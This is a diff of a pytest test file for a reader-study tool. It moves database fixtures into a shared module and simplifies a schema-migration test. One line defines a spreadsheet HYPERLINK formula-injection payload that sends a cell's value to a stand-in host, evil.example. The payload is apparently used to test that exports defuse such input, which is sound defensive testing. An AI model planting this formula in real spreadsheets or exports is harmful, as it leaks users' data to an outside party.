@@ -17,27 +17,16 @@ import uuid
 import pytest
 from click.testing import CliRunner
 
-from studies import database, lifecycle, readers
+from studies import lifecycle, readers
 from studies.database import open_db
 from studies.errors import ReaderError, StudyError
 from studies.export import long_table, read_long_csv, write_export
 from studies.session import next_case, submit
 from studio import reader_view
 from studio.cli import cli
-from study_fixtures import copy_study, make_study
+from study_fixtures import database_at_version, study, template  # noqa: F401 (fixtures)
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
-
-
-@pytest.fixture(scope="module")
-def template(tmp_path_factory):
-    db_path, _ = make_study(tmp_path_factory.mktemp("tpl"), "pilot")
-    return db_path
-
-
-@pytest.fixture()
-def study(template, tmp_path):
-    return copy_study(template, tmp_path)
 
 
 def _asking(db, fields="site", consent=""):
@@ -298,16 +287,12 @@ def test_admin_settings_mirror_the_option(study):
 
 def test_migration_8_upgrades_a_schema_5_database(tmp_path, monkeypatch):
     path = tmp_path / "old.db"
-    with monkeypatch.context() as m:
-        m.setattr(database, "MIGRATIONS", [x for x in database.MIGRATIONS if x[0] <= 5])
-        m.setattr(database, "SCHEMA_VERSION", 5)
-        db = open_db(path)
+    with database_at_version(path, 5, monkeypatch) as db:
         sid = db["studies"].insert({"name": "s", "created_at": "x", "size": 64,
                                     "tasks": '["turing"]', "options": "{}", "seed": 0,
                                     "profile_fields": "[]"}).last_pk
         db["readers"].insert({"study_id": sid, "name": "r", "token_hash": "h", "ordinal": 0,
                               "created_at": "x", "profile": '{"specialty": "x"}'})
-        db.close()
     db = open_db(path)
     try:
         assert db.execute("SELECT ask_profile FROM studies").fetchone() == (0,)
